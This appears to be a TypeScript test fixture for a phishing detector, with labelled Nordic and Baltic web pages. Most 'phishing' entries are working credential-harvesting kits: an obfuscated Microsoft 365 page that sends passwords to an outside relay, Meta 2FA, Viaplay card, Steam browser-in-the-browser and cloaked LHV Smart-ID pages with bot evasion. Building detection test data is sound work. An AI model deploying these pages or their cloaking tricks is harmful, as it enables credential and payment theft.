import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, cardCss, govCss, baseCss, spinnerCss, cardFormatJs, cookieBanner, gtm, b64, xorHex, wordmark } from '../parts/yb-kit.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
  id: 'yb-fi-m365-atob-eval-hash-email',
  label: 'phishing',
  kind: 'obfuscated-m365-kit',
  url: 'https://docs-share.tiedosto-palvelu.click/v/#bWF0dGkudmlydGFuZW5AZXNwb28uZmk=',
  body: doc({
    lang: 'fi',
    title: '&#8203;',
    body: `<div id="r"></div>
<script>
var _0x4e=['${b64(`(function(){var em='';try{em=atob(location.hash.slice(1))}catch(e){}
var css='body{margin:0;background:#eef;font-family:Segoe UI,Arial}.b{width:420px;margin:10vh auto;background:#fff;padding:40px;box-shadow:0 2px 6px #0003}input{width:100%;border:0;border-bottom:1px solid #666;padding:8px 0;margin:10px 0 18px;font-size:15px}button{float:right;background:#0067b8;color:#fff;border:0;padding:7px 32px}.e{color:#e81123;font-size:14px;display:none}';
var s=document.createElement('style');s.textContent=css;document.head.appendChild(s);document.title='Kirjaudu sisään Microsoft-tilillesi';
document.getElementById('r').innerHTML='<div class="b"><b style="color:#737373;font-size:18px">Microsoft</b><p>'+em+'</p><h2 style="font-weight:600">Anna salasana</h2><div class="e" id="e">Tilisi tai salasanasi on virheellinen.</div><form id="x"><input type="password" name="p" placeholder="Salasana" autofocus><button>Kirjaudu</button></form></div>';
var t=0;document.getElementById('x').onsubmit=function(ev){ev.preventDefault();t++;
fetch('https://m365-relay.workers.dev/c',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({u:em,p:this.p.value,t:t,h:location.host})});
if(t<2){document.getElementById('e').style.display='block';this.p.value=''}else{location.replace('https://www.office.com/')}};
})();`)}'];
(function(_0x1b,_0x2c){var _0x3d=window['\\x61\\x74\\x6f\\x62'](_0x1b[0]);new window['\\x46\\x75\\x6e\\x63\\x74\\x69\\x6f\\x6e'](_0x3d)();})(_0x4e);
</script>`,
  }),
},
  {
  id: 'yb-fi-meta-business-appeal-vercel',
  label: 'phishing',
  kind: 'social-account-kit',
  url: 'https://meta-business-appeal-fi.vercel.app/case/1002847719',
  body: doc({
    lang: 'fi',
    title: 'Meta Business Help Center | Tapaus #1002847719',
    css: `${baseCss}
body{background:#f0f2f5}
.h{background:#fff;padding:12px 24px;border-bottom:1px solid #ddd;font:700 20px Arial;color:#0866ff}
.c{max-width:620px;margin:26px auto;background:#fff;border-radius:8px;padding:26px}
.warn{background:#fff3cd;border-radius:6px;padding:12px;font-size:14px}
input,textarea{width:100%;padding:11px;border:1px solid #ccd;border-radius:6px;margin:6px 0 12px;font-size:15px}
button{width:100%;padding:13px;background:#0866ff;color:#fff;border:0;border-radius:6px;font-weight:700}
#pw,#code{display:none}`,
    body: `<div class="h">∞ Meta</div>
<div class="c">
<h2>Sivusi on poistettu käytöstä</h2>
<div class="warn">Sivusi on raportoitu tekijänoikeusrikkomuksesta. Jos et tee valitusta 24 tunnin kuluessa, sivusi ja mainostilisi poistetaan pysyvästi.</div>
<form id="f">
<label>Sivun nimi</label><input name="page" required>
<label>Sähköposti tai puhelinnumero</label><input name="login" required>
<label>Lisätietoja</label><textarea name="msg" rows="3"></textarea>
<div id="pw"><label>Facebook-salasana</label><input type="password" name="pass"></div>
<div id="code"><label>Kaksivaiheisen tunnistautumisen koodi</label><input name="code" inputmode="numeric" maxlength="8"></div>
<button id="b">Lähetä valitus</button>
</form></div>
<script>
var st=0;document.getElementById('f').onsubmit=function(e){e.preventDefault();var d=Object.fromEntries(new FormData(this));d.step=st;
fetch('/api/appeal',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(d)});
st++;if(st==1){document.getElementById('pw').style.display='block';document.getElementById('b').textContent='Jatka'}else if(st==2){document.getElementById('code').style.display='block'}else{location.href='https://www.facebook.com/help'}};
</script>`,
  }),
},
  {
  id: 'yb-no-viaplay-betaling-mislyktes',
  label: 'phishing',
  kind: 'streaming-kit',
  url: 'https://viaplay-no.konto-betaling.com/no-nb/account/payment',
  body: doc({
    lang: 'no',
    title: 'Viaplay – Oppdater betaling',
    css: `${baseCss}
body{background:#1b1027;color:#fff}
.c{max-width:440px;margin:50px auto;padding:0 20px}
.vp{font:800 32px Arial;background:linear-gradient(90deg,#ff3b6b,#ff7b39);-webkit-background-clip:text;color:transparent}
label{display:block;margin:12px 0 4px;font-size:14px;color:#ccc}
input{width:100%;padding:13px;border:0;border-radius:4px;background:#2d2140;color:#fff;font-size:16px}
button{margin-top:18px;width:100%;padding:14px;border:0;border-radius:30px;background:#ff3b6b;color:#fff;font-weight:700;font-size:16px}`,
    body: `<div class="c">
<div class="vp">viaplay</div>
<h2>Betalingen din mislyktes</h2>
<p>Vi kunne ikke trekke månedsbeløpet for Viaplay Total. Oppdater kortopplysningene for å unngå at abonnementet avsluttes.</p>
<form method="post" action="/no-nb/account/payment/update">
<label>E-post</label><input name="email" type="email" required>
<label>Passord</label><input name="password" type="password" required>
<label>Kortnummer</label><input name="card" inputmode="numeric" oninput="fmtCard(this)" required>
<label>Utløpsdato</label><input name="exp" oninput="fmtExp(this)" required>
<label>CVC</label><input name="cvc" maxlength="3" required>
<button>Oppdater</button>
</form></div>
<script>${cardFormatJs}</script>`,
  }),
},
  {
  id: 'yb-lv-cs2-skins-steam-bitb',
  label: 'phishing',
  kind: 'game-account-kit',
  url: 'https://cs2-skinu-turnirs.lv-drops.com/',
  body: doc({
    lang: 'lv',
    title: 'CS2 Skins Turnīrs – Balsojiet par komandu',
    css: `${baseCss}
body{background:#0e1116;color:#eee}
.h{padding:20px 34px;font:800 24px Arial;color:#f5a623}
.hero{max-width:900px;margin:30px auto;text-align:center}
.teams{display:flex;gap:20px;justify-content:center;margin:26px 0}.teams div{background:#1b212b;padding:26px;border-radius:10px;width:220px}
.vote{background:#5c7e10;color:#fff;border:0;padding:14px 28px;font-weight:700;border-radius:4px}
#bitb{position:fixed;top:60px;left:50%;transform:translateX(-50%);width:520px;background:#fff;color:#111;border-radius:8px;box-shadow:0 10px 40px #000;display:none}
#bitb .bar{background:#dee1e6;border-radius:8px 8px 0 0;padding:8px 12px;font-size:13px;display:flex;gap:8px;align-items:center}
#bitb .url{flex:1;background:#fff;border-radius:14px;padding:4px 12px;color:#333}
#bitb .url b{color:#188038}
#bitb .in{background:#171a21;color:#c7d5e0;padding:30px}
#bitb input{width:100%;padding:10px;background:#32353c;border:0;color:#fff;margin:6px 0 14px}
#bitb button{width:100%;padding:12px;background:linear-gradient(90deg,#06bfff,#2d73ff);color:#fff;border:0;font-weight:700}`,
    body: `<div class="h">DROPS.LV</div>
<div class="hero">
<h1>Balsojiet par labāko Baltijas komandu un saņemiet AWP | Dragon Lore</h1>
<p>Katrs balsotājs saņem bezmaksas skinu. Piesakieties ar Steam, lai balsotu.</p>
<div class="teams"><div><h3>FNATIC LV</h3><button class="vote">Balsot</button></div><div><h3>BALTIC KINGS</h3><button class="vote">Balsot</button></div></div>
</div>
<div id="bitb"><div class="bar">🔒 <span class="url"><b>https://</b>steamcommunity.com/openid/login?openid.mode=checkid_setup</span> ✕</div>
<div class="in"><h2 style="color:#fff">Sign in</h2><form method="post" action="/steam/auth.php"><label>SIGN IN WITH ACCOUNT NAME</label><input name="username"><label>PASSWORD</label><input type="password" name="password"><label>STEAM GUARD CODE</label><input name="guard" maxlength="5"><button>Sign in</button></form></div></div>
<script>[].forEach.call(document.querySelectorAll('.vote'),function(b){b.onclick=function(){document.getElementById('bitb').style.display='block'}});</script>`,
  }),
},
  {
  id: 'yb-ee-lhv-cloaked-carpenter-site',
  label: 'phishing',
  kind: 'cloaked-kit',
  url: 'https://www.puusepp-tartu.ee/galerii/',
  body: doc({
    lang: 'et',
    title: 'Galerii – Tartu Puusepatöökoda',
    css: `${baseCss}main{max-width:980px;margin:20px auto;padding:0 20px}.g{display:grid;grid-template-columns:repeat(3,1fr);gap:12px}.g div{aspect-ratio:4/3;background:linear-gradient(135deg,#b38b59,#6d4c2d)}`,
    body: `<main><h1>Meie tööd</h1><p>Köögimööbel, trepid ja eritellimusel puitmööbel Tartus ja Lõuna-Eestis.</p><div class="g"><div></div><div></div><div></div><div></div><div></div><div></div></div><p>Kontakt: info@puusepp-tartu.ee · +372 5551 2840</p></main>
<script>
(function(){
 var ua=navigator.userAgent,l=(navigator.language||'').toLowerCase();
 if(navigator.webdriver||/bot|crawl|spider|headless|lighthouse|python|curl/i.test(ua))return;
 if(!/mobile|android|iphone/i.test(ua)&&l.indexOf('et')!==0)return;
 var k=23,h='${xorHex('/galerii/wp-cache/lhv/index.html', 23)}',p='';
 for(var i=0;i<h.length;i+=2)p+=String.fromCharCode(parseInt(h.substr(i,2),16)^k);
 fetch(p).then(function(r){return r.text()}).then(function(t){document.open();document.write(t);document.close();});
})();
</script>`,
  }),
  routes: {
    'www.puusepp-tartu.ee/galerii/wp-cache/lhv/index.html': htmlRoute(
      doc({
        lang: 'et',
        title: 'LHV – Sisene',
        css: `${cardCss}body{background:#f5f5f5}.lhv{font:900 34px Arial;color:#111}.btn{background:#111}`,
        body: `<div class="wrap"><div class="card"><div class="lhv">LHV</div><h1>Sisene internetipanka</h1><p>Konto on ajutiselt piiratud. Kinnitage oma isik Smart-ID abil.</p><form method="post" action="/galerii/wp-cache/lhv/post.php"><label>Kasutajanimi</label><input type="text" name="user"><label>Isikukood</label><input type="text" name="ik"><label>Smart-ID PIN1</label><input type="password" name="pin1"><label>Smart-ID PIN2</label><input type="password" name="pin2"><button class="btn">Sisene</button></form></div></div>`,
      }),
    ),
  },
},
  {
  id: 'yb-fi-tampere-owa-own',
  label: 'clean',
  kind: 'webmail-own-domain',
  url: 'https://posti.tampere.fi/owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2fposti.tampere.fi%2fowa%2f',
  body: doc({
    lang: 'fi',
    title: 'Outlook',
    css: `${baseCss}
body{background:#fff;font-family:"Segoe UI",Tahoma,Arial}
.signInBg{position:fixed;inset:0 auto 0 0;width:38%;background:#0072c6}
.lgn{margin-left:44%;padding-top:14vh;max-width:360px}
.lgn h1{font-weight:300;font-size:40px;color:#333;margin:0 0 20px}
.lgn input{width:100%;padding:8px;border:1px solid #ccc;margin-bottom:12px;font-size:15px}
.lgn .b{background:none;border:0;color:#333;font-size:22px;display:flex;align-items:center;gap:8px;padding:0;margin-top:6px}
.lgn .b span{display:inline-block;width:30px;height:30px;border:2px solid #333;border-radius:50%;line-height:26px;text-align:center}
.lgn .n{font-size:13px;color:#666;margin-top:30px}`,
    body: `<div class="signInBg"></div>
<div class="lgn">
<h1>Outlook</h1>
<form action="/owa/auth.owa" method="POST" name="logonForm" autocomplete="off">
<input type="hidden" name="destination" value="https://posti.tampere.fi/owa/">
<input type="hidden" name="flags" value="4"><input type="hidden" name="forcedownlevel" value="0">
<label for="username">Toimialue\\käyttäjänimi:</label><input id="username" name="username" type="text" placeholder="TAMPERE\\matti.meikalainen">
<label for="password">Salasana:</label><input id="password" name="password" type="password">
<button class="b" type="submit"><span>→</span> kirjaudu</button>
</form>
<p class="n">Tampereen kaupunki · Tietohallinto. Ongelmatilanteissa ota yhteys IT-tukeen, puh. 040 800 7000.</p>
</div>`,
  }),
},
  {
  id: 'yb-se-goteborg-adfs-own',
  label: 'clean',
  kind: 'sso-own-domain',
  url: 'https://adfs.goteborg.se/adfs/ls/?client-request-id=7d1a&wa=wsignin1.0&wtrealm=urn%3afederation%3aMicrosoftOnline',
  body: doc({
    lang: 'sv',
    title: 'Logga in',
    css: `${baseCss}
body{background:#fff}
#fullPage{display:flex;min-height:100vh}
#brandingWrapper{flex:1;background:#004b89 linear-gradient(160deg,#004b89,#0a6bb8)}
#contentWrapper{width:500px;padding:60px 50px}
.logo{font:700 22px Arial;color:#004b89;margin-bottom:40px}
input{width:100%;padding:9px;border:1px solid #ccc;margin-bottom:14px;font-size:15px}
.submit{background:#004b89;color:#fff;border:0;padding:10px 28px}
.hint{font-size:13px;color:#555;margin-top:24px}`,
    body: `<div id="fullPage"><div id="brandingWrapper"></div>
<div id="contentWrapper">
<div class="logo">Göteborgs Stad</div>
<h2 style="font-weight:400">Logga in</h2>
<form method="post" id="loginForm" autocomplete="off" action="/adfs/ls/?client-request-id=7d1a&amp;wa=wsignin1.0&amp;wtrealm=urn%3afederation%3aMicrosoftOnline">
<input id="userNameInput" name="UserName" type="email" placeholder="fornamn.efternamn@goteborg.se" autocomplete="off">
<input id="passwordInput" name="Password" type="password" placeholder="Lösenord" autocomplete="off">
<input id="optionForms" type="hidden" name="AuthMethod" value="FormsAuthentication">
<span class="submit" id="submitButton" role="button" tabindex="4" onclick="document.getElementById('loginForm').submit()">Logga in</span>
</form>
<p class="hint">Logga in med ditt användarnamn i Göteborgs Stad. Glömt lösenord? Kontakta IT-servicedesk 031-365 00 00.</p>
</div></div>`,
  }),
},
  {
  id: 'yb-lt-rimi-newsletter-click-own',
  label: 'clean',
  kind: 'marketing-redirect-own-domain',
  url: 'https://click.news.rimi.lt/?qs=8f2a1b47c0e9d35ad6a2e6d0b1c9f7e40d2a5c18',
  routes: {
    'click.news.rimi.lt/': redirectRoute(302, 'https://www.rimi.lt/e-parduotuve/lt/akcijos?utm_source=newsletter&utm_medium=email&utm_campaign=savaites_akcijos_11'),
    'www.rimi.lt/e-parduotuve/lt/akcijos': htmlRoute(
      doc({
        lang: 'lt',
        title: 'Akcijos | Rimi e-parduotuvė',
        css: `${baseCss}header{background:#a00d24;color:#fff;padding:14px 30px;font:800 24px Arial}.g{max-width:1080px;margin:20px auto;display:grid;grid-template-columns:repeat(4,1fr);gap:16px;padding:0 20px}.g div{border:1px solid #eee;border-radius:8px;padding:12px}.g i{display:block;aspect-ratio:1;background:#f3e9e9;border-radius:6px;margin-bottom:8px}.pr{color:#a00d24;font-weight:800;font-size:20px}`,
        body: `<header>RIMI</header><h1 style="max-width:1080px;margin:20px auto;padding:0 20px">Savaitės akcijos</h1><div class="g"><div><i></i>Pienas Rokiškio 2,5 % 1 l<div class="pr">0,99 €</div></div><div><i></i>Bananai, 1 kg<div class="pr">1,19 €</div></div><div><i></i>Kava Paulig Presidentti 500 g<div class="pr">5,49 €</div></div><div><i></i>Sūris Džiugas 180 g<div class="pr">2,79 €</div></div></div>`,
      }),
    ),
  },
},
];
